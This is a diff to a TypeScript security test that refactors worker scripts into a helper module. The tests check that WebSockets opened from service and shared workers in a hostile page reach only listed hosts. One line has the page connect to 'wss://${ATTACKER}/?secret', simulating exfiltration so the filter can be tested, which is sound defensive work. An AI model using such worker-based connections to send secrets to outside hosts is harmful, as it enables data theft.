@@ -12,6 +12,7 @@ import {
   serve,
   serveScript,
 } from '../../support/hostile-page.ts';
+import { CONNECTING_WORKER, connectFromSharedWorker } from '../../support/hidden-channel.ts';
 import { type OwnApp, startOwnApp } from '../../support/own-app.ts';
 
 // What Chromium sends without asking Electron's request filter. Each channel is first seen to work
@@ -45,26 +46,12 @@ test.beforeEach(async ({ cloud }) => {
   page = await openHostile(app.bulkhead, demoTenant(cloud, 'Contoso').id, address);
 });
 
-const CONNECT = `
-  onmessage = ({ data }) => open(data, self);
-  onconnect = ({ ports: [port] }) => (port.onmessage = ({ data }) => open(data, port));
-  function open(url, answer) {
-    const socket = new WebSocket(url);
-    socket.onopen = socket.onerror = () => answer.postMessage(url);
-  }`;
-
 const WORKERS = {
   'a service worker': async (url: string) => {
     const { active, installing, waiting } = await navigator.serviceWorker.register('/sw.js');
     (active ?? waiting ?? installing)?.postMessage(url);
   },
-  'a shared worker': (url: string) =>
-    new Promise<void>((done) => {
-      const { port } = new SharedWorker('/shared.js');
-      port.addEventListener('message', () => done());
-      port.start();
-      port.postMessage(url);
-    }),
+  'a shared worker': connectFromSharedWorker,
   'a shared worker of a blob': async (url: string) => {
     const source = await (await fetch('/shared.js')).blob();
     await new Promise<void>((done) => {
@@ -78,8 +65,8 @@ const WORKERS = {
 
 for (const [worker, connect] of Object.entries(WORKERS)) {
   test(`a WebSocket of ${worker} reaches listed hosts only`, async ({ cloud }) => {
-    serveScript(cloud, '/sw.js', CONNECT);
-    serveScript(cloud, '/shared.js', CONNECT);
+    serveScript(cloud, '/sw.js', CONNECTING_WORKER);
+    serveScript(cloud, '/shared.js', CONNECTING_WORKER);
 
     await page.evaluate(connect, `wss://${ATTACKER}/?secret`);
     await page.evaluate(connect, `wss://${LISTED}/?control`);
